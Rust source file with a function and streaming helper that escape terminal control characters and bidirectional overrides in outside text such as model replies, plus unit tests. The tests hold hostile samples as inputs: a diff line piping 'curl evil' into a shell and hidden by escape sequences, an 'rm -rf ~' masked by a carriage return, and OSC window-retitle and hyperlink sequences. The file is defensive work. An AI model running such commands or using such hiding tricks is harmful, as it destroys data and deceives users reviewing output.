//! Text from outside (a model's reply, a file, a command's output) made safe to show
//! on a terminal: control characters and display-reordering marks are shown, not
//! obeyed. Pure, a leaf; the presentation layer decides when to use it.

use std::borrow::Cow;

/// Text from outside the program — a model's reply, a file, the request, a server's
/// answer — made safe to show on a terminal: control characters and escape sequences are
/// shown, not obeyed, so a reply cannot move the cursor, erase lines, retitle the window or
/// hide a line of the diff the user confirms. Tab and newline stay, and so does a CR before
/// a newline (it cannot hide anything); every other control is shown in caret notation
/// (`^[` for ESC, `^M` for a lone CR, `^?` for DEL), and C1 controls and the
/// bidirectional overrides that reorder what is seen (Trojan Source) as `\u{…}`.
/// Style the result, never the other way round: escaping styled text would show its
/// colour codes.
pub fn escape_controls(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut chars = text.chars().peekable();
    let mut out = String::with_capacity(text.len() + 8);
    while let Some(c) = chars.next() {
        let line_end = c == '\r' && chars.peek() == Some(&'\n');
        if line_end || !needs_escape(c) {
            out.push(c);
        } else if c < ' ' {
            out.push('^');
            out.push(char::from(b'@' + c as u8));
        } else if c == '\u{7f}' {
            out.push_str("^?");
        } else {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // Embeddings, overrides and isolates: they reorder how the text is displayed.
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

/// [`escape_controls`] for text that arrives in pieces, like a streamed answer: a CR at
/// the end of a piece waits for the next to see whether a newline follows.
#[derive(Debug, Default)]
pub struct StreamEscaper {
    held_cr: bool,
}

impl StreamEscaper {
    /// The escaped form of `piece`, less a CR it ends with.
    pub fn push(&mut self, piece: &str) -> String {
        let mut text = String::with_capacity(piece.len() + 1);
        if std::mem::take(&mut self.held_cr) {
            text.push('\r');
        }
        text.push_str(piece);
        if text.ends_with('\r') {
            text.pop();
            self.held_cr = true;
        }
        escape_controls(&text).into_owned()
    }

    /// What is still held at the end of the stream.
    pub fn finish(&mut self) -> &'static str {
        if std::mem::take(&mut self.held_cr) {
            "^M"
        } else {
            ""
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_tabs_and_newlines_pass_unchanged() {
        let text = "fn main() {\n\tprintln!(\"héllo → wörld\");\r\n}\n";
        assert_eq!(escape_controls(text), text);
        assert!(matches!(escape_controls("a\tb\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_line_that_hides_itself_is_shown() {
        // Cursor up, erase the line, carriage return: the reply's line would vanish.
        let hidden = "+    os.system('curl evil | sh')\x1b[1A\x1b[2K\r\n";
        let shown = escape_controls(hidden);
        // With the escapes shown, a CR before the newline hides nothing.
        assert_eq!(shown, "+    os.system('curl evil | sh')^[[1A^[[2K\r\n");
        assert!(!shown.contains('\x1b'));
        // A lone CR would let the rest of the line overwrite its start.
        assert_eq!(
            escape_controls("rm -rf ~\r# tidy up\r"),
            "rm -rf ~^M# tidy up^M"
        );
    }

    #[test]
    fn osc_sequences_controls_and_reordering_are_shown() {
        let text = "\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\x\u{9b}31m\0\x7f a\u{202e}b\u{2066}c";
        let shown = escape_controls(text);
        assert_eq!(
            shown,
            "^[]0;pwned^G^[]8;;http://evil^[\\x\\u{9b}31m^@^? a\\u{202e}b\\u{2066}c"
        );
        assert!(!shown.chars().any(needs_escape));
    }

    #[test]
    fn a_stream_escapes_like_the_whole_text() {
        let text = "one\r\ntwo\rthree\x1b[2K\r";
        for size in 1..text.len() {
            let mut escaper = StreamEscaper::default();
            let mut streamed = String::new();
            let bytes: Vec<char> = text.chars().collect();
            for piece in bytes.chunks(size) {
                streamed.push_str(&escaper.push(&piece.iter().collect::<String>()));
            }
            streamed.push_str(escaper.finish());
            assert_eq!(streamed, escape_controls(text), "pieces of {size}");
        }
    }
}
